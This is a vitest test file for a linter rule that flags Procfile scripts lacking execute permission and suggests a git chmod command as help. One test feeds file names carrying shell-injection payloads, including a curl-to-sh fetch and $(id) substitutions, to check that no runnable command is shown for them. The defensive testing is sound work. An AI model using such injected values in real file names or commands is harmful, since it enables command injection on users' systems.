import { expect, it } from 'vitest';
import { lintModel } from '../../src/lint/lint-project.js';
import { readProject } from '../../src/model/project.js';
import { SourceFile } from '../../src/source/index.js';
import { ruleById } from '../support/rule-by-id.js';

const notExecutable = ruleById('instance/not-executable');

/** The help for a script that the Procfile runs and that git knows without execute permission. */
function helpFor(name: string): string | undefined {
  const files = Object.entries({ Procfile: `web: './${name}'\n`, [name]: '#!/bin/bash\nexec app\n' }).map(
    ([own, text]) => ({
      name: own,
      path: `/project/${own}`,
      source: new SourceFile(`/project/${own}`, own, text),
    }),
  );
  const project = readProject({ root: '/project', files, ebCliConfigs: [], isExecutable: () => false });
  return lintModel(project, {}, [notExecutable]).diagnostics[0]?.help;
}

it('names the command of git that makes a script executable', () => {
  expect(helpFor('bin/start.sh')).toBe(
    'Run `git update-index --chmod=+x bin/start.sh`, or call it with `bash`.',
  );
});

it.each(['a;curl example.com|sh;.sh', 'a$(id).sh', 'a b.sh', 'a`id`.sh'])(
  'shows no command with the name %j, in which a shell would read more',
  (name) => {
    expect(helpFor(`bin/${name}`)).toBe('Make it executable before committing it, or call it with `bash`.');
  },
);
